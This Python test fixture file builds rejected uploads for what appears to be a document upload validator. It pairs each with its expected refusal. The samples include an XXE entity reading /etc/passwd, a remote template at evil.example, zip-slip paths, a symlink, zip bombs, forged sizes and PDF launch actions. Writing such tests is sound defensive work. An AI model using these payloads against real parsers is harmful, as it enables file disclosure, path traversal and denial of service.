"""Files that must not come in, each with what its refusal says. Word and Excel files here are real archives."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

CONTENT_TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def office(parts: Mapping[str, bytes] | None = None, heart: str = "word/document.xml") -> bytes:
    """A Word or Excel file with these further parts."""
    return archive({"[Content_Types].xml": CONTENT_TYPES.encode(), heart: b"<w:document/>", **(parts or {})})


def archive(parts: Mapping[str, bytes]) -> bytes:
    """A ZIP archive."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as written:
        for name, content in parts.items():
            entry = zipfile.ZipInfo(name, (2026, 3, 2, 12, 0, 0))
            entry.compress_type = zipfile.ZIP_DEFLATED
            written.writestr(entry, content)
    return held.getvalue()


def linked() -> bytes:
    """An archive with a symbolic link in it."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as written:
        written.writestr("word/document.xml", "<w:document/>")
        link = zipfile.ZipInfo("word/link")
        link.external_attr = 0o120777 << 16
        written.writestr(link, "/etc/passwd")
    return held.getvalue()


def locked() -> bytes:
    """An archive whose part says that it is encrypted."""
    content = bytearray(archive({"word/document.xml": b"<w:document/>" * 20}))
    content[6] |= 1
    place = content.find(b"PK\x01\x02")
    content[place + 8] |= 1
    return bytes(content)


def lying() -> bytes:
    """An archive that states a small size for a part that is large."""
    content = bytearray(archive({"word/document.xml": b"\0" * 3_000_000}))
    for mark, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        place = content.find(mark)
        content[place + offset : place + offset + 4] = struct.pack("<I", 10)
    return bytes(content)


def picture(width: int, height: int) -> bytes:
    """A PNG that states a size and holds little."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 10)) + chunk(b"IEND", b"")
    )


WORD = office()
ENTITIES = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
TEMPLATE = (
    b'<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" '
    b'TargetMode="External"/></Relationships>'
)

#: For each case: the name of the file, its bytes (or how to make them, where they are many), what the refusal says.
BAD: dict[str, tuple[str, bytes | Callable[[], bytes], str]] = {
    "empty word": ("plan.docx", b"", "empty"),
    "empty pdf": ("plan.pdf", b"", "empty"),
    "empty text": ("plan.txt", b"", "empty"),
    "program": ("plan.exe", b"MZ", "not a kind of file"),
    "no ending": ("plan", b"words", "not a kind of file"),
    "two endings": ("plan.docx.exe", WORD, "not a kind of file"),
    "old word": ("plan.doc", OLE, "not a kind of file"),
    "word with macros by name": ("plan.docm", WORD, "macros"),
    "excel with macros by name": ("plan.xlsm", WORD, "macros"),
    "binary excel": ("plan.xlsb", WORD, "macros"),
    "picture as plan": ("plan.png", picture(2, 2), "not a kind of file"),
    "script as plan": ("plan.svg", b"<svg/>", "not a kind of file"),
    "xml as plan": ("plan.xml", b"<a/>", "not a kind of file"),
    "archive as plan": ("plan.zip", WORD, "not a kind of file"),
    "encrypted word": ("plan.docx", OLE, "password"),
    "encrypted excel": ("plan.xlsx", OLE, "password"),
    "old word renamed pdf": ("plan.pdf", OLE, "password"),
    "word renamed pdf": ("plan.pdf", WORD, "something else"),
    "text renamed pdf": ("plan.pdf", b"just words", "something else"),
    "text renamed word": ("plan.docx", b"just words", "cut short, damaged"),
    "pdf renamed word": ("plan.docx", PDF, "cut short, damaged"),
    "pdf renamed text": ("plan.txt", PDF, "it is PDF"),
    "word renamed text": ("plan.txt", WORD, "it is Word"),
    "picture renamed text": ("plan.txt", picture(2, 2), "it is PNG"),
    "excel renamed word": ("plan.docx", office(heart="xl/workbook.xml"), "something else"),
    "word renamed excel": ("plan.xlsx", WORD, "something else"),
    "word without a document": ("plan.docx", archive({"a.txt": b"a"}), "something else"),
    "truncated word": ("plan.docx", WORD[: len(WORD) // 2], "cut short"),
    "truncated excel": ("plan.xlsx", WORD[:40], "cut short"),
    "word with a broken part": ("plan.docx", WORD.replace(b"PK\x03\x04", b"PK\x03\x05"), "cut short, damaged"),
    "truncated pdf": ("plan.pdf", PDF[:-8], "cut short"),
    "pdf with a script": ("plan.pdf", PDF.replace(b"/Catalog", b"/Catalog/JavaScript 2 0 R"), "script"),
    "pdf that starts a program": ("plan.pdf", PDF.replace(b"/Catalog", b"/Catalog/Launch 2 0 R"), "script"),
    "macros inside word": ("plan.docx", office({"word/vbaProject.bin": b"x"}), "macros"),
    "macros inside excel": ("plan.xlsx", office({"xl/vbaProject.bin": b"x"}, "xl/workbook.xml"), "macros"),
    "old macro sheets": ("plan.xlsx", office({"xl/macrosheets/sheet1.xml": b"x"}, "xl/workbook.xml"), "macros"),
    "controls inside word": ("plan.docx", office({"word/activeX/activeX1.bin": b"x"}), "macros"),
    "part outside its folder": ("plan.docx", office({"../../etc/cron.d/x": b"x"}), "outside its own folder"),
    "part from the root": ("plan.docx", office({"/etc/passwd": b"x"}), "outside its own folder"),
    "part by drive": ("plan.docx", office({"C:/windows/x": b"x"}), "outside its own folder"),
    "part outside by backslash": ("plan.docx", office({"..\\..\\x": b"x"}), "outside its own folder"),
    "link inside": ("plan.docx", linked(), "link to another file"),
    "locked part": ("plan.docx", locked(), "password"),
    "archive inside": ("plan.docx", office({"word/embeddings/more.zip": b"x"}), "packed inside"),
    "word inside word": ("plan.docx", office({"word/embeddings/more.docx": b"x"}), "packed inside"),
    "excel where no chart is": ("plan.docx", office({"word/more.xlsx": b"x"}), "packed inside"),
    "packed object inside": ("plan.docx", office({"word/embeddings/oleObject1.bin": OLE}), "packed inside"),
    "seven zip inside": ("plan.docx", office({"word/media/a.7z": b"x"}), "packed inside"),
    "zip bomb": ("plan.docx", lambda: office({"word/big.xml": b"\0" * 40_000_000}), "more than 100 times"),
    "many small bombs": (
        "plan.docx",
        lambda: office({f"word/{n}.bin": b"\0" * 900_000 for n in range(40)}),
        "more than 100 times",
    ),
    "beyond 200 MB": (
        "plan.docx",
        lambda: office({f"word/{n}.bin": b"\0" * 30_000_000 for n in range(8)}),
        "could stop",
    ),
    "too many parts": ("plan.docx", lambda: office({f"word/{n}.xml": b"x" for n in range(1100)}), "1102 parts"),
    "a size that is a lie": ("plan.docx", lying, "cut short, damaged|more than 100 times"),
    "entities": ("plan.docx", office({"word/styles.xml": ENTITIES}), "words of its own"),
    "outside entity": ("plan.docx", office({"word/styles.xml": OUTSIDE}), "words of its own"),
    "entities in sixteen bits": (
        "plan.docx",
        office({"word/styles.xml": ENTITIES.decode().encode("utf-16")}),
        "words of its own",
    ),
    "entities far down": (
        "plan.docx",
        office({"word/styles.xml": b" " * 300_000 + ENTITIES}),
        "words of its own|100 times",
    ),
    "template from outside": ("plan.docx", office({"word/_rels/settings.xml.rels": TEMPLATE}), "template"),
    "excel entities": ("plan.xlsx", office({"xl/styles.xml": ENTITIES}, "xl/workbook.xml"), "words of its own"),
    "text with no text": ("plan.txt", bytes(range(256)) * 10, "characters that no text has"),
    "text in sixteen bits that does not say so": ("plan.txt", "Plan\n".encode("utf-16-le") * 50, "encoding"),
    "html that is not": ("plan.html", b"just words", "something else"),
    "binary html": ("plan.html", b"<html>" + bytes(range(32)), "characters that no text has"),
    "pdf behind html": ("plan.html", PDF, "it is PDF"),
    "too large": ("plan.txt", lambda: b"a" * (25 * 1024 * 1024 + 1), "larger than 25 MB"),
}
